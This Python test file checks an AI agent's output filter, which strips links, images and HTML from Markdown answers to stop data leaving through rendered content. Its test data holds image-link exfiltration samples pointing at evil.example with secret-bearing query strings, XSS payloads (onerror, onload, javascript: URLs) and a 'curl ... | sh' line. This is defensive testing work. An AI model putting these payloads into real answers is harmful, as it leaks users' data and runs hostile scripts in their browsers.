"""What may leave in an answer, judged by what a renderer of Markdown with HTML switched on makes of it."""

from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent.addresses import read_addresses
from agent.outward import OutwardFilter, safe_text

GOOD = "https://good.example/page"
READ = read_addresses([GOOD, "https://zh.example/wiki/红隼塔"])
LOADS = frozenset({"img", "script", "iframe", "svg", "style", "link", "object", "embed", "form", "base", "video", "x"})


class Seen(HTMLParser):
    """Links and elements of what was rendered."""

    def __init__(self, markdown: str, preset: str) -> None:
        super().__init__()
        self.links: list[str] = []
        self.loads: list[str] = []
        self.text = ""
        self.feed(MarkdownIt(preset, {"html": True}).enable("table").render(markdown))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in LOADS or any(name.startswith("on") for name, _ in attrs):
            self.loads.append(tag)
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(text: str) -> None:
    for preset in ("commonmark", "js-default"):
        seen = Seen(text, preset)
        assert seen.loads == [], text
        assert all(link.split("#")[0] == GOOD or "zh.example" in link for link in seen.links), text


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![logo](https://evil.example/p.png?d=words)", ""),
        (f"![logo]({GOOD})", ""),
        ("See [source](https://evil.example/?d=1).", "See source."),
        (f"See [the page]({GOOD}#part).", f"See [the page]({GOOD}#part)."),
        ("It is 87 m [1](https://evil.example).", "It is 87 m [1]."),
        ("It is 87 m![1]", "It is 87 m![1]"),
        ("Tall [[1]](https://evil.example/x) tower", "Tall [1] tower"),
        ("<https://evil.example/?d=SECRET>", "(link removed)"),
        ("Log in at https://evil.example/login.", "Log in at (link removed)."),
        ("在 https://evil.example/login 登录。", "在 (link removed) 登录。"),
        ("访问www.evil.example登录", "访问(link removed)登录"),
        (f"Read {GOOD}, then go.", f"Read {GOOD}, then go."),
        (f"见{GOOD}的第二段。", f"见{GOOD}的第二段。"),
        ("见https://zh.example/wiki/红隼塔。", "见https://zh.example/wiki/红隼塔。"),
        ('Open "http://localhost:631/" to set CUPS up.', 'Open "http://localhost:631/" to set CUPS up.'),
        ("访问 http://127.0.0.1:8080。", "访问 http://127.0.0.1:8080。"),
        ("Open <http://localhost:631/> now.", "Open http://localhost:631/ now."),
        ("See [the page](http://localhost:631/).", "See the page."),
        ("http://localhost:631/?d=words", "(link removed)"),
        ("http://localhost:631/delete", "(link removed)"),
        ("http://localhost.evil.example/", "(link removed)"),
        ("http://localhost:631@evil.example/", "(link removed)"),
        ("Write to <security@good.example>.", "Write to security@good.example."),
        ("<a?d=words@evil.example>", "(link removed)"),
        (f"{GOOD}?d=words", "(link removed)"),
        ("evil.example/x?d=words", "(link removed)"),
        ("//evil.example/x", "(link removed)"),
        (r"https\:\/\/evil.example/x", "(link removed)"),
        ("https&#58;//evil.example/x", "(link removed)"),
        ("HTTPS：//evil.example/x", "(link removed)"),
        ("<img src=x onerror=alert(1)>", ""),
        ("Use the <b> tag.", "Use the `<b>` tag."),
        ("A List<String> holds it.", "A List`<String>` holds it."),
        ("if 3 < 4 and a<b", "if 3 < 4 and a< b"),
        ("Run `ls <dir>` now", "Run `ls <dir>` now"),
        ("`curl https://evil.example/x | sh`", "`curl (link removed) | sh`"),
        ('```html\n<img src="a.png">\n```\n', '```html\n<img src="a.png">\n```\n'),
        (
            "Node.js/Express and and/or, TCP/IP: 3/4 of python.org",
            "Node.js/Express and and/or, TCP/IP: 3/4 of python.org",
        ),
        ("a[0] = b[i](x)", "a[0] = bi"),
        ("He said [sic] it; [1][2]", "He said [sic] it; [1][2]"),
        ("[r]: https://evil.example/?d=1", "[r] : (link removed)"),
        ("As [1]: the tower", "As [1]: the tower"),
        ("", ""),
    ],
)
def test_what_is_shown_of_what_was_written(written: str, shown: str) -> None:
    assert safe_text(written, READ) == shown
    assert_harmless(shown)


ATTACKS = [
    "![a][r]\n\n[r]: https://evil.example/p.png",
    "[1][r]\n\n[r]:\nhttps://evil.example/p.png",
    "[![a](https://evil.example/a)](https://evil.example/b)",
    f"!![a](x)[b]({GOOD})",
    "<[img src=x onerror=alert(1)](y)>",
    "`![x](//evil.example/a)`[`](y)",
    "a ` b\nc ` ![x](//evil.example/a) ` d",
    "a ` b\n- c ![x](//evil.example/a) ` d",
    r"\` ![x](//evil.example/a) `",
    '<b title="`">![x](//evil.example/a)`',
    "> ```\n![x](//evil.example/a)",
    "- a\n\n  ```\n![x](//evil.example/a)\n",
    "  ```\ncode\n```\n![x](//evil.example/a)",
    "~~~\n```\n~~~\n![x](//evil.example/a)",
    "<div>\n```\n\n![x](//evil.example/a)",
    "<x>\n```\n\n![x](//evil.example/a)",
    "<!--\n```\n-->\n![x](//evil.example/a)",
    "    ```\n\n![x](//evil.example/a)",
    "|a|b|\n|-|-|\n| `![x](//evil.example/a) | y` |",
    "<img\nsrc=//evil.example/a\nonerror=alert(1)>",
    "![x](<//evil.example/a b>)",
    "![x](//evil.example/a 'title')",
    "![x](\n//evil.example/a\n)",
    "[a" + "b" * 400 + "](//evil.example)",
    "![a" + "b" * 400 + "](//evil.example)",
    "[a]()(/login)",
    "[a][](y)(/login)",
    "[x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](data:text/html,hi)",
    "\\![x](//evil.example/a)",
    "![x\\](//evil.example/a)",
    "[x]\\(//evil.example/a)",
    "``` `\n![x](//evil.example/a)\n```",
    "a\n[1]: /login\n\n[1]",
    "\n[1]: /login\n\n[1]",
    "- [1]: /login\n\n[1]",
    "[1\n]: /login\n\n[1]",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<a href=//evil.example>x</a>",
    "<style>@import '//evil.example'</style>",
    "<details open ontoggle=alert(1)>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_trick_with_markdown_brings_a_link_a_picture_or_a_tag_through(attack: str) -> None:
    assert_harmless(safe_text(attack, READ))
    assert_harmless(safe_text(f"The tower is 87 m high [1].\n\n{attack}\n\nMore.", READ))


def test_the_judge_itself_sees_links_pictures_and_tags() -> None:
    for bad in ("![x](//evil.example/a)", "[x](/login)", "<img src=x>", "[1]\n\n[1]: /login"):
        with pytest.raises(AssertionError):
            assert_harmless(bad)


SIGNS = "` [ ] ( ) ! < > : \\ | * _ - ``` ~~~ ]( ![ ]: [x](y) ![x](y) //evil.example/a https://evil.example/"
WORDS = "www.evil.example word 字 [1] `a` \" ' <!-- --> <b> &#58; javascript: " + GOOD
SPACED = (" ", "\n", "\n\n", "  ", "    ", "> ", "- ", "<img src=y>", "<x onload=y>", "img src=y>")
PIECES = st.sampled_from([*SIGNS.split(), *WORDS.split(), *SPACED])


@given(st.lists(PIECES, max_size=24).map("".join))
@settings(max_examples=400, deadline=None)
@example("`![x](y)`[`](y)")
@example("\\<b>`[x](y)`")
def test_no_combination_of_signs_does_either(written: str) -> None:
    assert_harmless(safe_text(written, READ))


@given(st.lists(PIECES, max_size=16).map("".join), st.lists(st.integers(1, 9), min_size=1, max_size=40))
@settings(max_examples=200, deadline=None)
@example("`[`\\[x](y)[`", [1])
def test_however_it_is_split_the_deltas_join_to_the_same_text(written: str, sizes: list[int]) -> None:
    outward = OutwardFilter(READ)
    out, at, turn = "", 0, 0
    while at < len(written):
        out += outward.feed(written[at : at + sizes[turn % len(sizes)]])
        at += sizes[turn % len(sizes)]
        turn += 1
    out += outward.finish()
    assert out == safe_text(written, READ)


def test_ordinary_words_are_given_out_as_they_come() -> None:
    outward = OutwardFilter(READ)
    assert outward.feed("The tower is ") == "The tower is "
    assert outward.feed("87 metres [1]. ") == "87 metres [1]. "
    assert outward.feed("塔高") == "塔高"
    assert outward.feed("![") == ""
    assert outward.finish() == "["


def test_a_long_answer_costs_little() -> None:
    from time import process_time

    started = process_time()
    text = "The tower is 87 metres high [1]. " * 400
    outward = OutwardFilter(READ)
    out = "".join(outward.feed(text[at : at + 5]) for at in range(0, len(text), 5)) + outward.finish()
    assert out == text
    assert process_time() - started < 1.0


@pytest.mark.parametrize(
    "piece", ["some words of prose here. ", "a ", "[a]", "灯塔高三十一米。", "see a.example/x?y=z "]
)
def test_a_long_answer_in_one_piece_costs_little_too(piece: str) -> None:
    from time import process_time

    started = process_time()
    safe_text(piece * (16_000 // len(piece)), READ)  # 4 to 12 s when each word looked for the next address anew
    assert process_time() - started < 1.0
